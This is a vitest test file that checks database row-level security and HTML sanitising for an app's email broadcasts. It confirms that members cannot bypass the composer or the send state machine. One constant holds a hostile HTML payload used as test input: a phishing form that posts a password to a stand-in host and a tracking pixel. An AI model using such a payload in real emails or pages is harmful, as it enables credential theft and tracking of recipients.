import { describe, expect, test } from "vitest";
import { withUser } from "@/lib/db/doors";
import { audienceSchema } from "@/lib/email/broadcast-audience";
import { createBroadcast, updateBroadcast } from "@/lib/email/broadcasts";
import { setupTestDatabase } from "../helpers/db";
import { as, attempt, createTenants, type Caller, type Tenants } from "../helpers/rls";

// The README's threat model (docs/decisions.md, "The database is the boundary"): a member may skip
// the dashboard and reach public.broadcasts through Supabase's REST API with their own JWT.
// PostgREST runs each request as `set local role authenticated` with the JWT's claims, which is
// what `as` does, so each statement below is a PATCH, POST or DELETE on /rest/v1/broadcasts.
const db = setupTestDatabase();

const MEMBERS: Caller[] = ["member", "admin", "owner"];
const RAW = `<form action="https://phish.example/login"><input name="password"></form><img src="https://spy.example/p.gif">`;

/** A draft of workspace A as the composer stores it, written by the superuser (no app path). */
async function draft(t: Tenants) {
  const [row] = await db.sql`
    insert into broadcasts (workspace_id, subject, body_text, body_html, created_by)
    values (${t.a.id}, 'News', 'Hello!', '<p>Hello!</p>', ${t.a.owner.id})
    returning id`;
  return row.id as string;
}

const stored = (id: string) =>
  db.sql`select subject, body_html, body_text, status, scheduled_at, sent_at, segment_id, topic_id
         from broadcasts where id = ${id}`;

describe("broadcasts: no member writes a broadcast past the composer and the state machine", () => {
  test("a member PATCHing a draft's body_html to raw HTML (past the composer's sanitising) is refused, and the row is unchanged", async () => {
    const t = await createTenants(db.sql);
    const id = await draft(t);
    const before = await stored(id);
    for (const caller of MEMBERS)
      expect(
        await attempt(() =>
          as(t, caller, (q) => q`update broadcasts set body_html = ${RAW} where id = ${id} returning id`),
        ),
      ).toEqual({ ok: false, code: "42501" });
    expect(await stored(id)).toEqual(before);
  });

  test("a member PATCHing a broadcast's status to 'sent', 'sending' or 'scheduled' (skipping the controls and their job) is refused, and the row is unchanged", async () => {
    const t = await createTenants(db.sql);
    const id = await draft(t);
    const before = await stored(id);
    for (const change of [
      db.sql`status = 'sent', sent_at = now()`,
      db.sql`status = 'sending'`,
      db.sql`status = 'scheduled', scheduled_at = now() + interval '1 day'`,
    ])
      for (const caller of MEMBERS)
        expect(
          await attempt(() =>
            as(t, caller, (q) => q`update broadcasts set ${change} where id = ${id} returning id`),
          ),
        ).toEqual({ ok: false, code: "42501" });
    expect(await stored(id)).toEqual(before);
  });

  test("a member PATCHing the subject of a broadcast that is sending (rewriting it mid-send) is refused, and the row is unchanged", async () => {
    const t = await createTenants(db.sql);
    const id = await draft(t);
    await db.sql`update broadcasts set status = 'sending' where id = ${id}`;
    const before = await stored(id);
    expect(
      await attempt(() =>
        as(t, "member", (q) => q`update broadcasts set subject = 'Changed' where id = ${id} returning id`),
      ),
    ).toEqual({ ok: false, code: "42501" });
    expect(await stored(id)).toEqual(before);
  });

  test("a member POSTing a broadcast already 'sent' with raw body_html is refused, and nothing is stored", async () => {
    const t = await createTenants(db.sql);
    for (const caller of MEMBERS)
      expect(
        await attempt(() =>
          as(
            t,
            caller,
            (q) => q`insert into broadcasts (workspace_id, subject, body_html, status, sent_at)
                     values (${t.a.id}, 'Sent already', ${RAW}, 'sent', now()) returning id`,
          ),
        ),
      ).toEqual({ ok: false, code: "42501" });
    expect(await db.sql`select 1 from broadcasts where workspace_id = ${t.a.id}`).toEqual([]);
  });

  test("a member DELETEing a broadcast (its report's anchor) is refused, and the row stays", async () => {
    const t = await createTenants(db.sql);
    const id = await draft(t);
    expect(
      await attempt(() => as(t, "owner", (q) => q`delete from broadcasts where id = ${id} returning id`)),
    ).toEqual({ ok: false, code: "42501" });
    expect(await db.sql`select id from broadcasts where id = ${id}`).toEqual([{ id }]);
  });

  test("members still read their workspace's broadcasts, and only those", async () => {
    const t = await createTenants(db.sql);
    const id = await draft(t);
    expect(await as(t, "member", (q) => q`select id from broadcasts`)).toEqual([{ id }]);
    expect(await as(t, "outsider", (q) => q`select id from broadcasts`)).toEqual([]);
  });
});

describe("broadcasts: the composer writes through the service door after checking the caller", () => {
  const input = (t: Tenants, body: string) => ({
    workspaceId: t.a.id,
    subject: "News",
    body,
    format: "text" as const,
    audience: audienceSchema.parse({}),
  });

  test("a member composes and edits a draft through the app: the stored HTML is the composer's, never raw", async () => {
    const t = await createTenants(db.sql);
    const { id } = await withUser(t.member.claims, (tx) =>
      createBroadcast(tx, { ...input(t, RAW), createdBy: t.member.id }),
    );
    const [row] = await stored(id);
    expect(row.status).toBe("draft");
    expect(row.body_html).not.toContain("<form");
    expect(row.body_html).toContain("&lt;form");
    const changed = await withUser(t.member.claims, (tx) =>
      updateBroadcast(tx, { ...input(t, "Edited"), broadcastId: id }),
    );
    expect(changed).toBe(true);
    expect((await stored(id))[0].body_text).toBe("Edited");
  });

  test("someone of another workspace composing into workspace A through the app is refused, and nothing is stored", async () => {
    const t = await createTenants(db.sql);
    const outsider = t.b.owner;
    const refused = await withUser(outsider.claims, (tx) =>
      createBroadcast(tx, { ...input(t, "Hello"), createdBy: outsider.id }),
    ).catch((e: { code?: string }) => e.code);
    expect(refused).toBe("not_found");
    const id = await draft(t);
    const before = await stored(id);
    await expect(
      withUser(outsider.claims, (tx) => updateBroadcast(tx, { ...input(t, RAW), broadcastId: id })),
    ).rejects.toMatchObject({ code: "not_found" });
    expect(await stored(id)).toEqual(before);
    expect(await db.sql`select 1 from broadcasts where workspace_id = ${t.a.id} and id <> ${id}`).toEqual([]);
  });
});
